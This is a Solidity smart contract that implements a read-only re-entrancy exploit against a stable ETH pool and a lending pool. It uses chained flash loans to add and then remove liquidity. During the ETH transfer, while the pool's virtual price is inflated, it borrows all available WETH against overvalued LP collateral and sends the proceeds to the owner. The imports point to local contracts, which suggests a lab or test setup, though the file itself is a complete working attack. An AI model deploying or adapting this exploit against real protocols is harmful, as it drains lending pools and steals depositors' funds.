// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20, IWETH} from "../interfaces/IERC20.sol";
import {IERC3156FlashBorrower, IERC3156FlashLender} from "../interfaces/IERC3156.sol";
import {StableEthPool} from "../amm/StableEthPool.sol";
import {LendingPool} from "../lending/LendingPool.sol";

/// @notice Read-only re-entrancy: adds flash-borrowed liquidity to the stable pool, posts part of
/// the LP tokens as collateral, and removes the rest. While the pool sends the ETH leg (supply
/// already burnt, token balance not yet reduced) its virtual price is inflated; the lending pool
/// prices the LP collateral from it, and this contract borrows all the WETH it can then.
contract VirtualPriceReentry is IERC3156FlashBorrower {
    struct Plan {
        IERC3156FlashLender lender;
        StableEthPool pool;
        LendingPool lending;
        IWETH weth;
        IERC20 coin;
        uint256 wethLoan;
        uint256 coinLoan;
    }

    address private immutable owner;
    Plan private plan;
    uint256 private ownEth;
    bool private armed;

    constructor() {
        owner = msg.sender;
    }

    function execute(Plan calldata p) external payable {
        require(msg.sender == owner);
        plan = p;
        ownEth = msg.value;
        p.lender.flashLoan(this, address(p.weth), p.wethLoan, "");
        p.weth.transfer(owner, p.weth.balanceOf(address(this)));
        uint256 rest = p.coin.balanceOf(address(this));
        if (rest > 0) p.coin.transfer(owner, rest);
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata)
        external
        returns (bytes32)
    {
        Plan memory p = plan;
        if (token == address(p.weth)) {
            p.lender.flashLoan(this, address(p.coin), p.coinLoan, "");
            uint256 eth = address(this).balance;
            if (eth > 0) p.weth.deposit{value: eth}();
        } else {
            _exploit(p, amount + fee);
        }
        IERC20(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    function _exploit(Plan memory p, uint256 coinOwed) private {
        p.weth.withdraw(p.wethLoan);
        uint256 eth = p.wethLoan + ownEth;
        uint256 coins = p.coin.balanceOf(address(this));
        p.coin.approve(address(p.pool), type(uint256).max);
        uint256 lp = p.pool.add_liquidity{value: eth}([eth, coins], 0);

        // Collateral: the part of the new LP tokens paid for with own ETH.
        uint256 collateralLp = lp * ownEth / (eth + coins);
        p.pool.approve(address(p.lending), collateralLp);
        p.lending.supply(address(p.pool), collateralLp, address(this));

        armed = true;
        p.pool.remove_liquidity(lp - collateralLp, [uint256(0), uint256(0)]);

        uint256 have = p.coin.balanceOf(address(this));
        if (have < coinOwed) {
            uint256 short = coinOwed - have;
            uint256 wethBal = p.weth.balanceOf(address(this));
            uint256 sell = short + short / 50 + 1e15;
            if (sell > wethBal) sell = wethBal;
            p.weth.withdraw(sell);
            p.pool.exchange{value: sell}(0, 1, sell, short);
        }
    }

    receive() external payable {
        if (armed && msg.sender == address(plan.pool)) {
            armed = false;
            (uint256 limit, uint256 debt) = plan.lending.accountLiquidity(address(this));
            uint256 available = plan.weth.balanceOf(address(plan.lending));
            uint256 amount = limit - debt < available ? limit - debt : available;
            plan.lending.borrow(address(plan.weth), amount, address(this), address(this));
        }
    }
}
